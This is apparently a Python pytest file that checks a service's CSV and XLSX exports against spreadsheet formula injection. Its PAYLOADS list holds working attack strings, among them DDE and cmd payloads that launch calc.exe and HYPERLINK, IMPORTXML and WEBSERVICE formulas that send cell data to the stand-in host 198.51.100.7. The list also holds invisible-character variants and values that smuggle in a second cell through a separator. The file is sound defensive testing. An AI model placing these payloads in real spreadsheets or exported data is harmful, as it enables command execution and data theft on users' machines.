"""T13: text from data that a spreadsheet would run, through every export that a spreadsheet opens, and read again."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pandas
import pytest
from hypothesis import given as drawn
from hypothesis import strategies as st

from service_nb.ledger.exports import csv_rows, ro_crate, xlsx_rows
from service_nb.ledger.exports.formats import ExportMaterial
from service_nb.ledger.exports.table import guard_text, is_risky, make_printable, restore_text
from tests.simulators.signing import signed_card

PAYLOADS = (
    # the four signs, and what is known to be put behind them (CWE-1236)
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=HYPERLINK("http://198.51.100.7/?leak="&A1,"open")',
    '=IMPORTXML(CONCAT("http://198.51.100.7/?v=",A1),"//a")',
    '=IMPORTDATA("http://198.51.100.7/x.csv")',
    '=WEBSERVICE("http://198.51.100.7/"&A1)',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=INDIRECT(ADDRESS(1,1))",
    "-2+3+cmd|' /C calc'!D2",
    "+-+-1",
    "==1",
    "=",
    "+",
    "-",
    "@",
    "-5",
    "+49 170 0000000",
    "@handle",
    # a control character in front: hidden from people, not from the program
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\r\n=1+1",
    "\t",
    "\rtext",
    "\0text",
    "\x0b=1+1",
    "\x1f=1+1",
    "\x7f=1+1",
    # blanks and what is not seen in front
    " =1+1",
    "   \t  =1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u2060@SUM(1,1)",
    "\u00ad-1",
    # signs that a program folds into the four
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(1,1)",
    "\u22121+1",
    " \uff1d1+1",
    # quotes and separators that end a cell and begin another
    '";=1+1',
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1,1)",
    'a";"=1+1',
    "a; \u200b=1+1",
    # an apostrophe that is there already
    "'=1+1",
    "''=1+1",
    " '=1+1",
)
NUMBERS = ("-5", "-0.25", "1e-7", "-1e+300", "12345678901234567890.10", "-9007199254740993")
# Where a cell may start, in this file and in one that is opened with another separator, and what must not follow.
_STARTS = re.compile(r"(?:^|[;\t\r\n])[\s'\u00ad\u200b-\u200f\u2060\ufeff\x00-\x1f\x7f\u2400-\u2421]*(.)", re.DOTALL)


@pytest.fixture
def tried(record_property: Callable[[str, object], None]) -> Callable[[int], None]:
    return lambda count: record_property("bad_inputs", count)


def card_of(columns: list[dict[str, Any]], rows: list[dict[str, Any]]) -> Any:
    source = {"name": "data", "source_id": "0" * 24, "schema_revision": "2" * 64, "row_count": 1, "content": {}}
    view = {
        "status": "ok",
        "question": PAYLOADS[4],
        "ask": "=1",
        "columns": columns,
        "rows": [],
        "row_count": len(rows),
    }
    return {
        "kind": "query",
        "version": 1,
        "canonical": {"plan": "{}", "result": json.dumps(rows)},
        "digests": {"plan_hash": "0" * 64, "result_hash": "1" * 64, "schema_revision": "2" * 64},
        "receipt": None,
        "view": view | {"source": source, "query_id": "query_0", "latency_ms": 1.0},
    }


def column(name: str, physical: str = "string") -> dict[str, Any]:
    kind = "string" if physical == "string" else "number"
    return {"name": name, "type": kind, "physical": physical, "role": "key"}


def texts(values: tuple[str, ...]) -> Any:
    return card_of([column("text"), column("after")], [{"text": value, "after": "x"} for value in values])


def material(card: Any) -> ExportMaterial:
    return ExportMaterial(cards=[card], time="2026-11-21T15:00:00Z")


def csv_files(card: Any) -> dict[str, bytes]:
    """Every CSV file that an export of the card writes."""
    crate = ro_crate.export(material(signed_card(card)))
    return {"csv": csv_rows.export(material(card))} | {path: crate[path] for path in crate if path.endswith(".csv")}


def runs(cell: str) -> bool:
    """Whether a spreadsheet might, judged without the guard: the first thing seen in a cell is one of the signs."""
    first = next(
        (char for char in cell if char not in " \u00a0" and unicodedata.category(char) not in ("Cc", "Cf")), ""
    )
    return unicodedata.normalize("NFKC", first)[:1] in {"=", "+", "-", "@", "\u2212"} or cell[:1] in {
        "\t",
        "\r",
        "\n",
        "\0",
    }


def test_no_cell_of_a_csv_file_starts_as_a_formula(tried: Callable[[int], None]) -> None:
    files = csv_files(texts(PAYLOADS))
    assert len(files) == 2

    for content in files.values():
        rows = list(csv.reader(io.StringIO(content.decode(), newline="")))[1:]
        assert len(rows) == len(PAYLOADS)
        for payload, (cell, after) in zip(PAYLOADS, rows, strict=True):
            assert cell.lstrip(" \u00a0\u2003\u3000\ufeff\u200b\u200e\u2060\u00ad").startswith("'") or not runs(payload)
            assert not runs(cell)
            assert after == "x"
    tried(len(PAYLOADS) * len(files))


@pytest.mark.parametrize("separator", [";", "\t", ","])
def test_a_file_that_is_opened_with_another_separator_has_no_formula_either(
    separator: str, tried: Callable[[int], None]
) -> None:
    content = csv_rows.export(material(texts(PAYLOADS))).decode()

    # As a spreadsheet cuts what is not quoted by its own rules: each piece is a cell.
    for line in re.split(r"\r\n|\r|\n", content):
        for cell in csv.reader([line.replace("\0", "")], delimiter=separator):
            assert not any(runs(piece.lstrip('"')) for piece in cell if piece != "")
    tried(len(PAYLOADS))


def test_pandas_reads_the_same_cells(tried: Callable[[int], None]) -> None:
    frame = pandas.read_csv(io.BytesIO(csv_rows.export(material(texts(PAYLOADS)))), keep_default_na=False)

    assert len(frame) == len(PAYLOADS)
    assert not any(map(runs, frame["text"]))
    tried(len(PAYLOADS))


def test_a_workbook_holds_texts_as_texts_and_no_formula(tried: Callable[[int], None]) -> None:
    content = xlsx_rows.export(material(texts(PAYLOADS)))

    sheet = openpyxl.load_workbook(io.BytesIO(content))["rows"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for payload, cell in zip(PAYLOADS, cells, strict=True):
        assert cell.data_type == "s"
        assert cell.value == make_printable(payload).replace("\r\n", "\n").replace("\r", "\n")
        assert cell.quotePrefix or not runs(payload)
    tried(len(PAYLOADS))


def test_no_member_of_a_workbook_has_a_formula_a_link_or_a_macro(tried: Callable[[int], None]) -> None:
    content = xlsx_rows.export(material(card_of([column(name) for name in PAYLOADS], [])))

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert "external" not in name.lower()
            assert "vba" not in name.lower()
            member = archive.read(name)
            assert re.search(rb"<f[ >/]|<hyperlink|ddeLink|<definedName[ >]", member) is None
    tried(len(PAYLOADS))


def test_heads_are_guarded_too(tried: Callable[[int], None]) -> None:
    names = tuple(dict.fromkeys(PAYLOADS))
    card = card_of([column(name) for name in names], [dict.fromkeys(names, "x")])

    for content in csv_files(card).values():
        heads = next(csv.reader(io.StringIO(content.decode(), newline="")))
        assert len(heads) == len(names)
        assert not any(map(runs, heads))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_rows.export(material(card))))["rows"]
    assert {cell.data_type for cell in sheet[1]} == {"s"}
    tried(len(names) * 3)


def test_the_question_and_the_names_of_a_workbooks_evidence_are_texts(tried: Callable[[int], None]) -> None:
    for payload in PAYLOADS:
        card = texts(("x",))
        card["view"]["question"] = payload
        card["view"]["source"]["name"] = payload or "x"
        book = openpyxl.load_workbook(io.BytesIO(xlsx_rows.export(material(card))))
        assert {cell.data_type for row in book["evidence"].iter_rows() for cell in row} == {"s"}
    tried(len(PAYLOADS))


def test_payloads_in_columns_that_claim_to_hold_numbers_are_texts(tried: Callable[[int], None]) -> None:
    hostile = tuple(payload for payload in PAYLOADS if payload != "-5")
    for physical in ("int64", "float64", "decimal(38,2)"):
        card = card_of([column("n", physical), column("after")], [{"n": value, "after": "x"} for value in hostile])
        rows = list(csv.reader(io.StringIO(csv_rows.export(material(card)).decode(), newline="")))[1:]
        assert not any(runs(row[0]) for row in rows)
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx_rows.export(material(card))))["rows"]
        assert {row[0].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}
    tried(len(hostile) * 3)


def test_numbers_stay_numbers_and_negative_ones_are_not_quoted() -> None:
    card = card_of([column("n", "decimal(38,2)")], [{"n": value} for value in NUMBERS])

    assert csv_rows.export(material(card)).decode().splitlines()[1:] == list(NUMBERS)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_rows.export(material(card))))["rows"]
    assert [row[0].data_type for row in sheet.iter_rows(min_row=2)] == ["n", "n", "n", "n", "s", "s"]


@pytest.mark.parametrize(
    "text", ["North", "a-b", "x=1", "me@home", "1+1", "'tis", "", "5 - 3", "ok; fine", "a, -b", "é"]
)
def test_ordinary_texts_are_left_alone(text: str) -> None:
    assert guard_text(text) == text
    assert not is_risky(text)


@drawn(st.text(alphabet=st.sampled_from("=+-@'\t\r\n\0 ;,a1\u200b\uff1d\u2212\""), max_size=12))
def test_what_was_guarded_can_be_told_from_what_was_not(text: str) -> None:
    assert restore_text(guard_text(text)) == text
    assert is_risky(guard_text(text)) == is_risky(text)
    assert not any(
        start[1] in "=+-@\uff1d\u2212" and "'" not in start[0] for start in _STARTS.finditer(guard_text(text))
    )


@drawn(st.text(max_size=30))
def test_any_text_at_all_comes_through_csv(text: str) -> None:
    card = texts((text,))
    cell = list(csv.reader(io.StringIO(csv_rows.export(material(card)).decode(), newline="")))[1][0]

    assert cell == make_printable(guard_text(text))
